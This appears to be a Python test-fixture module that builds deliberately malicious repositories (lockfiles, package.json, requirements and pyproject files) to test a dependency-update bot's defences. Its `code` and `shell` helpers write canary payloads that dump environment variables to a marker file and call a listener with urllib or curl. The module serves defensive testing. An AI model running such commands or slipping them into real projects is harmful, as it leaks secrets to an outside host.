"""Repositories that mean harm: what is in each, and what the bot is to say of it."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field

Files = Mapping[str, str | bytes]

PIN = "acme==1.0\n"
POETRY = '[tool.poetry]\nname = "app"\nversion = "1"\n[tool.poetry.dependencies]\npython = "^3.11"\nacme = "1.0"\n'


@dataclass(frozen=True, slots=True)
class Ground:
    """Where the canaries are. `listener` is a server that nobody may ask; `marker` a file that nobody may write.

    `outside` is a folder that nobody may read: every text in it holds the canary.
    """

    listener: str
    marker: str
    outside: str
    npm: str
    index: str


@dataclass(frozen=True, slots=True)
class Case:
    """`files` and `links` (path to target) of a repository, made for the ground that it stands on.

    `said` is a pattern that the reasons in the project's report must hold: what it is about, and what to do. It is ""
    where nothing needs to be said: then exactly the packages in `fixed` are fixed, as in any other project.
    """

    name: str
    files: Callable[[Ground], Files]
    said: str = ""
    fixed: tuple[str, ...] = ("acme",)
    links: Callable[[Ground], Mapping[str, str]] = field(default=lambda ground: {})

    @property
    def slug(self) -> str:
        """The name as a path."""
        return re.sub("[^a-z]+", "-", self.name.lower()).strip("-")


def code(ground: Ground) -> str:
    """Python that shows that it ran."""
    return (
        "import os, urllib.request\n"
        f"open({ground.marker!r}, 'w').write(repr(dict(os.environ)))\n"
        f"urllib.request.urlopen({ground.listener + '/ran'!r})\n"
        "from setuptools import *\n"
    )


def shell(ground: Ground) -> str:
    """A shell command that shows that it ran."""
    return f"sh -c 'env > {ground.marker}; curl {ground.listener}/ran'"


def javascript(ground: Ground) -> str:
    """JavaScript that shows that it ran."""
    return f"require('fs').writeFileSync({json.dumps(ground.marker)}, 'ran')\n"


def pyproject(*dependencies: str, more: str = "") -> str:
    """A project of uv's."""
    return (
        '[project]\nname = "app"\nversion = "1"\nrequires-python = ">=3.11"\n'
        f"dependencies = {json.dumps(dependencies)}\n{more}"
    )


def uv_lock(ground: Ground, registry: str = "") -> str:
    """The lock of a project that needs acme."""
    index = registry or ground.index
    wheel = f"{index.removesuffix('/simple')}/files/acme-1.0-py3-none-any.whl"
    return (
        'version = 1\nrevision = 3\nrequires-python = ">=3.11"\n\n'
        f'[[package]]\nname = "acme"\nversion = "1.0"\nsource = {{ registry = "{index}" }}\n'
        f'wheels = [\n    {{ url = "{wheel}", hash = "sha256:{"0" * 64}" }},\n]\n\n'
        '[[package]]\nname = "app"\nversion = "1"\nsource = { virtual = "." }\n'
        'dependencies = [\n    { name = "acme" },\n]\n\n'
        '[package.metadata]\nrequires-dist = [{ name = "acme" }]\n'
    )


def package(dependencies: Mapping[str, str] | None = None, **more: object) -> str:
    """A package.json."""
    document = {"name": "app", "version": "1.0.0", "dependencies": dependencies or {"left": "^1.0.0"}, **more}
    return json.dumps(document)


def package_lock(resolved: str, version: int = 3) -> str:
    """A package-lock.json that holds left 1.0.0."""
    copy = {"version": "1.0.0", "resolved": resolved, "integrity": f"sha512-{'A' * 86}=="}
    if version == 1:
        return json.dumps({"name": "app", "version": "1.0.0", "lockfileVersion": 1, "dependencies": {"left": copy}})
    root = {"name": "app", "version": "1.0.0", "dependencies": {"left": "^1.0.0"}}
    return json.dumps(
        {"name": "app", "version": "1.0.0", "lockfileVersion": 3, "packages": {"": root, "node_modules/left": copy}}
    )


def npm(ground: Ground, **more: str) -> Files:
    """An npm project in which nothing is wrong, and what is added to it."""
    return {"package.json": package(), "package-lock.json": package_lock(f"{ground.npm}/left/-/left-1.0.0.tgz"), **more}


def beside(**more: str) -> Callable[[Ground], Files]:
    """A requirements file in which nothing is wrong, and what lies beside it."""
    return lambda ground: {"requirements.txt": PIN, **{name.replace("__", "."): text for name, text in more.items()}}


def pinned(line: str, **more: str) -> Callable[[Ground], Files]:
    """A requirements file with one more line, in which {listener} and so on stand for what the ground has."""

    def files(ground: Ground) -> Files:
        filled = line.format(listener=ground.listener, outside=ground.outside, marker=ground.marker)
        return {"requirements.txt": f"{filled}\n{PIN}", **more}

    return files
